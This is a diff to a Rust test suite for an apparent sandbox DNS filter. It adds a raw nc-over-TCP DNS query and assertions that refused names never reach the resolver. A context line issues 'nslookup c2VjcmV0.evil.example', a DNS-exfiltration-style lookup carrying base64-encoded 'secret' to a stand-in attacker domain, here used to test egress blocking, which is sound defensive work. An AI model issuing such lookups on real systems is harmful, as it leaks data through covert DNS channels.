@@ -123,6 +123,14 @@ async fn refusal(guest: &Guest, command: &str) -> String {
     said
 }
 
+/// Asks for the address of `NAME.example`, four letters before the dot, in a stream; the answer in hex.
+fn over_tcp(name: &str) -> String {
+    let question = format!(
+        "\\000\\036\\022\\064\\001\\000\\000\\001\\000\\000\\000\\000\\000\\000\\004{name}\\007example\\000\\000\\001\\000\\001"
+    );
+    format!("printf '{question}' | nc -w 20 198.19.0.1 53 | xxd -p | tr -d '\\n'")
+}
+
 #[tokio::test(flavor = "multi_thread")]
 async fn allowed_names_resolve_and_connect_and_refused_ones_say_so_at_once() {
     let (stage, resolver, _web) = stage().await;
@@ -150,6 +158,15 @@ async fn allowed_names_resolve_and_connect_and_refused_ones_say_so_at_once() {
     refusal(&guest, "nslookup www.good.example").await;
     refusal(&guest, "nslookup c2VjcmV0.evil.example").await;
     assert!(!resolver.heard("evil") && !resolver.heard("www"));
+    // Over TCP the answers are the same.
+    let found = output(&guest, &over_tcp("good")).await;
+    assert!(found.contains("01020304"), "{found}");
+    let refused = output(&guest, &over_tcp("evil")).await;
+    assert!(
+        !refused.is_empty() && !refused.contains("01020304"),
+        "{refused}"
+    );
+    assert!(!resolver.heard("evil"));
     // A listed name that leads inwards is not followed there.
     let said = refusal(&guest, "nslookup inside.example").await;
     assert!(said.contains("REFUSED"), "{said}");
